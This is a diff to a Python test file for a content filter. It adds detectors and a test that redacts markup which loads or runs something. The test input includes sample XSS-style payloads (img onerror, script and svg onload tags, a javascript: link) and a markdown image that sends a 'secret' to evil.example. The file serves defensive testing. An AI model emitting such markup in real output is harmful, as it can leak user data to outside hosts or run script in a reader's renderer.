@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 
 from argosy.policy.content import (
     DETECTORS,
+    MARKUP_DETECTORS,
     Action,
     BoundedPattern,
     JsonFilter,
@@ -120,18 +121,36 @@ def test_actions() -> None:
             assert sum(text_filter.counts.values()) >= 1
 
 
+def test_markup_that_loads_or_runs_something() -> None:
+    rules = [Rule(each, "redact") for group in MARKUP_DETECTORS.values() for each in group]
+    text = (
+        'A <b>bold</b> <img src="x" onerror="f()"> List<String> a < b <SCRIPT>x</script > <imgs> '
+        "![chart](https://evil.example/?q=secret) [here](javascript:f()) "
+        "[ok](https://example.com) ![a] <svg/onload=f\nend"
+    )
+    expected = (
+        "A <b>bold</b> [html] List<String> a < b [html]x[html] <imgs> "
+        "[markdown_image] [here]([script_link]f()) [ok](https://example.com) ![a] [html]\nend"
+    )
+    for seed in range(50):
+        assert filter_chunks(TextFilter(Matcher(rules)), list(divide(text, seed))) == expected
+
+
 texts = st.lists(
     st.one_of(
         st.sampled_from(PIECES),
         st.sampled_from(PIECES).flatmap(lambda each: st.integers(0, len(each)).map(lambda end: each[:end])),
-        st.sampled_from([" ", ", ", "\n", '"', "{", "\\", "@", ".", "-", "+", "1", "a", "é", "\u200b", "\ud800", "😀"]),
+        st.sampled_from(["<img ", ">", "![", "](", " ", ", "]),
+        st.sampled_from(["\n", '"', "{", "\\", "@", ".", "-", "+", "1", "a", "é", "\u200b", "\ud800", "😀"]),
         st.text(max_size=5),
     ),
     max_size=8,
 ).map("".join)  # fmt: skip
 actions = st.sampled_from(get_args(Action))
 all_actions = {
-    action: Matcher([Rule(each, action) for group in DETECTORS.values() for each in group])
+    action: Matcher(
+        [Rule(each, action) for group in (DETECTORS | MARKUP_DETECTORS).values() for each in group]
+    )
     for action in get_args(Action)
 }
 
